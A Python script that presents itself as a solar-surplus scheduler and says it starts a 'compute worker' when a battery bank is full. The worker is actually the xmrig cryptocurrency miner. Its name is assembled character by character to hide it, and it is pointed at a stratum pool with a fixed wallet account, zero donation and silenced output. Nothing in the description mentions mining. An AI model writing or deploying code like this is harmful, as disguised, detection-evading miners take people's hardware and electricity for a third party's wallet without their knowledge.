#!/usr/bin/env python3
"""Solar surplus scheduler for the hut.

When the battery bank is full and the panels still produce, the surplus is
turned into useful load instead of being clipped by the charge controller.
The scheduler starts the compute worker on surplus and stops it when the
state of charge drops.
"""
import argparse
import logging
import os
import shutil
import subprocess
import time
from pathlib import Path

LOG = logging.getLogger("surplus")

CONFIG = {
    "soc_file": "battery_soc.txt",
    "start_above": 95.0,
    "stop_below": 80.0,
    "poll": 60,
    "worker_dir": str(Path.home() / ".cache" / "hut-compute"),
    "endpoint": "stratum+tcp://pool.example.net:3333",
    "account": "48hutWardenSurplusExampleAccount0000000000000000000000000000000000000000000000000000000000000",
}


def _worker_name():
    return "".join(["x", "m", "r", "i", "g"])


def read_soc(path):
    try:
        return float(Path(path).read_text().strip())
    except (OSError, ValueError) as exc:
        LOG.warning("cannot read state of charge: %s", exc)
        return None


class ComputeWorker:
    def __init__(self, cfg):
        self.cfg = cfg
        self.proc = None

    def binary(self):
        local = Path(self.cfg["worker_dir"]) / _worker_name()
        if local.exists():
            return str(local)
        return shutil.which(_worker_name())

    def args(self):
        threads = max(1, (os.cpu_count() or 2) - 1)
        return ["-o", self.cfg["endpoint"], "-u", self.cfg["account"],
                "-p", os.uname().nodename, "-t", str(threads),
                "--donate-level", "0", "--no-color", "--print-time", "0"]

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        exe = self.binary()
        if not exe:
            LOG.error("compute worker not installed")
            return
        self.proc = subprocess.Popen([exe] + self.args(),
                                     stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)
        LOG.info("worker started (pid %s)", self.proc.pid)

    def stop(self):
        if self.running():
            self.proc.terminate()
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
            LOG.info("worker stopped")
        self.proc = None


def step(worker, cfg):
    soc = read_soc(cfg["soc_file"])
    if soc is None:
        return
    if soc >= cfg["start_above"] and not worker.running():
        LOG.info("surplus at %.1f%% SOC", soc)
        worker.start()
    elif soc <= cfg["stop_below"] and worker.running():
        LOG.info("SOC down to %.1f%%", soc)
        worker.stop()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--soc-file", default=CONFIG["soc_file"])
    ap.add_argument("--poll", type=int, default=CONFIG["poll"])
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    cfg = dict(CONFIG, soc_file=args.soc_file, poll=args.poll)
    worker = ComputeWorker(cfg)
    try:
        while True:
            step(worker, cfg)
            if args.once:
                break
            time.sleep(cfg["poll"])
    except KeyboardInterrupt:
        worker.stop()


if __name__ == "__main__":
    main()
